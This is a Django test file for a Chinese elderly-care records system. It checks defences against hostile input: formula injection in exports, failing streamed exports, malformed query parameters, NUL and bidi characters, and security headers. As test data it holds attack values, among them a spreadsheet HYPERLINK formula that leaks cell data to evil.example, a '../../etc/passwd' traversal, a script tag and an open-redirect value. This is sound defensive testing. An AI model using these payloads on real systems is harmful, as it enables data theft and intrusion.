"""Hostile and unusual input through the web pages (issue 15): formula injection in exports,
exports failing half-way, hostile query parameters on every page."""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator

import pytest
from django.test import Client

from tests import test_scope_walk as walk
from yanglao.accounts.roles import Role
from yanglao.core import sheets
from yanglao.people import ledger_export, services
from yanglao.people.testing import person_input

pytestmark = pytest.mark.django_db

county_a_world = walk.county_a_world  # the scope walk's world, as a fixture here too
HYPERLINK = '=HYPERLINK("http://evil.example/?"&B2,"详情")'


@pytest.fixture
def officer(regions, make_user):
    return make_user(Role.COUNTY_OFFICER, "220102")


@pytest.fixture
def officer_client(officer) -> Client:
    c = Client()
    c.force_login(officer)
    return c


def test_person_export_neutralises_formulas(officer, officer_client) -> None:
    services.person_register(actor=officer, data=person_input("220102001001", address=HYPERLINK))
    r = officer_client.get("/people/export.csv?region=220102")
    body = b"".join(r.streaming_content).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(body)))
    address = rows[0].index("详细住址")
    assert rows[1][address] == "'" + HYPERLINK
    r = officer_client.get("/people/export.xlsx?region=220102")
    xlsx = sheets.read_xlsx_bytes(b"".join(r.streaming_content))
    assert xlsx[1][address] == HYPERLINK  # a string cell with Excel's quote prefix


def test_csv_export_failing_half_way_is_not_a_silent_complete_file(
    officer, officer_client, monkeypatch
) -> None:
    services.person_register(actor=officer, data=person_input("220102001001"))
    real = ledger_export.person_rows

    def failing(**kw):
        header, rows = real(**kw)

        def broken() -> Iterator[list[object]]:
            yield from rows
            raise ConnectionError("connection to the database lost")

        return header, broken()

    monkeypatch.setattr(ledger_export, "person_rows", failing)
    r = officer_client.get("/people/export.csv?region=220102")
    assert r.status_code == 200  # already sent when the rows are read
    chunks: list[bytes] = []
    with pytest.raises(ConnectionError):  # the server aborts the connection
        for chunk in r.streaming_content:
            chunks.append(chunk)
    body = b"".join(chunks).decode("utf-8-sig")
    assert "张秀英" in body and body.rstrip().endswith(sheets.STREAM_FAILED_MARKER)
    # The xlsx is written whole before the response: the failure is an error, never a file.
    with pytest.raises(ConnectionError):
        officer_client.get("/people/export.xlsx?region=220102")


HOSTILE_PARAMS = {
    "page": "abc",
    "month": "2026-13",
    "year": "-1",
    "date": "2026-02-30",
    "q": "王\x00\u202e秀英",
    "region": "22\x0001",
    "status": "\u2066<script>",
    "item": "N06\x00",
    "kind": "../../etc/passwd",
    "since": "9" * 40,
    "new": "\x00",
    "fmt": "exe",
    "person": "not-a-uuid",
    "actor": "\u202e",
    "sort": "-\x00",
    "ids": "full\x00",
    "village": "2201020010019999",
    "worker": "abc",
    "next": "//evil.example/\x00",
    "unassigned": "\u202e1",
    "cursor": "%%%\x00",
    "visited": "yes\x00",
    "tab": "\x00",
    "remap": "\u2069",
    "on": "2026-02-30",
    "format": "\x00",
    "county": "99999999999999",
    "code": "\x00",
    "category": "\u202e",
    "before": "not-a-date",
    "age_band": "999",
    "life_status": "\x00",
    "from": "2026-99-99",
    "to": "\x00",
}


def test_hostile_query_parameters_never_give_a_server_error(county_a_world, officer) -> None:
    """Every GET page as an officer of the county whose records the pages show, with hostile
    query parameters: a page, a 400 with a Chinese message or a redirect, never a 500."""
    world = county_a_world
    client = Client(raise_request_exception=False)
    client.force_login(officer)
    failures = []
    checked = 0
    statuses: dict[int, int] = {}
    for route, _ in walk.all_patterns():
        if route == "accounts/logout/":
            continue
        url = walk.fill(route, world)
        for params in (HOSTILE_PARAMS, {k: v * 200 for k, v in HOSTILE_PARAMS.items()}):
            r = client.get(url, params)
            checked += 1
            statuses[r.status_code] = statuses.get(r.status_code, 0) + 1
            if r.status_code >= 500:
                failures.append((url, r.status_code))
            elif r.status_code == 400:
                assert any("\u4e00" <= ch <= "\u9fff" for ch in r.content.decode()), url
    assert checked > 50 and statuses.get(200, 0) > 30, statuses
    assert failures == []


RARE = ["𠀀王〇", "𪚥丽", "陈\U00030000"]


def test_rare_character_names_are_stored_searched_and_exported(officer, officer_client) -> None:
    for i, name in enumerate(RARE):
        services.person_register(
            actor=officer, data=person_input("220102001001", name=name, seq=60 + i)
        )
    page = officer_client.get("/people/", {"q": "𠀀"}).content.decode()
    assert "𠀀王〇" in page and "𪚥丽" not in page
    r = officer_client.get("/people/export.xlsx?region=220102")
    names = {row[0] for row in sheets.read_xlsx_bytes(b"".join(r.streaming_content))[1:]}
    assert names == set(RARE)
    r = officer_client.get("/people/export.csv?region=220102")
    body = b"".join(r.streaming_content).decode("utf-8-sig")
    assert all(name in body for name in RARE)


BIDI_NAME = "台账\u202egpj.csv"


def test_nul_and_bidi_characters_are_cleaned_in_api_bodies(officer, api_client) -> None:
    from yanglao.api.tests.test_api import create_body
    from yanglao.people.models import Person

    body = create_body("220102001001")
    body["address"] = "幸福路\x0012号\u202e\u2066"
    r = api_client(officer).post("/api/v1/persons", body)
    assert r.status_code == 201, r.content
    assert Person.objects.get().address == "幸福路12号"


def test_nul_and_bidi_characters_are_cleaned_in_forms_and_file_names(
    regions, make_user, settings, tmp_path
) -> None:
    from django.core.files.uploadedfile import SimpleUploadedFile

    from yanglao.imports.models import ImportBatch
    from yanglao.imports.tests.conftest import csv_bytes, line

    settings.MEDIA_ROOT = tmp_path
    township = Client()
    township.force_login(make_user(Role.TOWNSHIP_OFFICER, "220102001"))
    upload = SimpleUploadedFile(BIDI_NAME, csv_bytes([line()]))
    r = township.post("/imports/upload/", {"file": upload, "note": "a\x00b"})
    assert r.status_code in (200, 302), r.status_code
    assert ImportBatch.objects.get().file_name == "台账gpj.csv"


def test_over_long_field_fails_its_own_import_line(
    settings, tmp_path, regions, make_user, on_commit_now
) -> None:
    from django.core.files.uploadedfile import SimpleUploadedFile

    from yanglao.imports import services as imports
    from yanglao.imports.tests.conftest import HEADER, REF, csv_bytes, line

    settings.MEDIA_ROOT = tmp_path
    township = make_user(Role.TOWNSHIP_OFFICER, "220102001")
    header = [*HEADER, "紧急联系人姓名", "紧急联系人关系", "紧急联系人电话", "详细住址"]
    ok = [*line(seq=1), "李明", "子女", "13812345678", "幸福路1号"]
    long_contact = [*line(seq=2, name="王秀英"), "李" * 51, "子女", "13812345678", ""]
    long_address = [*line(seq=3, name="赵秀英"), "", "", "", "路" * 201]
    upload = SimpleUploadedFile("台账.csv", csv_bytes([ok, long_contact, long_address], header))
    batch = imports.batch_upload(actor=township, upload=upload, reference_date=REF)
    imports.batch_map(
        actor=township, batch=batch, mapping={int(i): k for i, k in batch.mapping.items()}
    )
    batch.refresh_from_db()
    assert batch.counts["new"] == 1 and batch.counts["rejected"] == 2, batch.counts
    imports.batch_commit_request(actor=township, batch=batch)
    from yanglao.people.models import Person

    assert list(Person.objects.values_list("name", flat=True)) == ["张桂兰"]


def test_security_headers_on_pages_with_personal_data(officer, officer_client) -> None:
    person, _ = services.person_register(actor=officer, data=person_input("220102001001"))
    for url in ("/people/", f"/people/{person.public_id}/", "/people/export.csv"):
        r = officer_client.get(url)
        assert r.status_code == 200, url
        csp = r["Content-Security-Policy"]
        assert "script-src 'self';" in csp and "frame-ancestors 'none'" in csp
        assert "unsafe-inline" not in csp.split("script-src")[1].split(";")[0]
        assert "no-store" in r["Cache-Control"], url
        assert r["X-Frame-Options"] == "DENY"
        assert r["Referrer-Policy"] == "same-origin"
        assert r["X-Content-Type-Options"] == "nosniff"
    login = Client().get("/accounts/login/")
    assert "no-store" in login["Cache-Control"] and "Content-Security-Policy" in login


def test_templates_have_no_inline_script() -> None:
    """The policy forbids inline script: no <script> without src, no on…= handlers, no
    javascript: links in any template (they would silently stop working)."""
    import re
    from pathlib import Path

    import yanglao

    root = Path(yanglao.__file__).parent
    offenders = []
    paths = list(root.rglob("templates/**/*.html"))
    assert len(paths) > 40
    for path in paths:
        text = path.read_text()
        for m in re.finditer(r"<script\b[^>]*>", text):
            tag = m.group(0)
            if "src=" not in tag and "application/json" not in tag:
                offenders.append((path.name, tag))
        offenders += [(path.name, h) for h in re.findall(r"\son[a-z]+\s*=", text)]
        offenders += [(path.name, "javascript:") for _ in re.findall("javascript:", text)]
    assert offenders == []


def test_api_bad_month_is_a_chinese_422_not_a_500(officer, api_client) -> None:
    """Schemathesis found GET /api/v1/benefits/rolls?month=… answering 500."""
    c = api_client(officer)
    for month in ("2026-13", "abc", "20\x0026-13", "2026-02-30", "٢٠٢٦-٠٣"):
        r = c.get("/api/v1/benefits/rolls", {"month": month})
        assert r.status_code == 422, (month, r.status_code)
        assert r.json()["errors"]["month"] == ["月份格式应为 2026-03"]
    assert c.get("/api/v1/benefits/rolls", {"month": "2026-03"}).status_code == 200
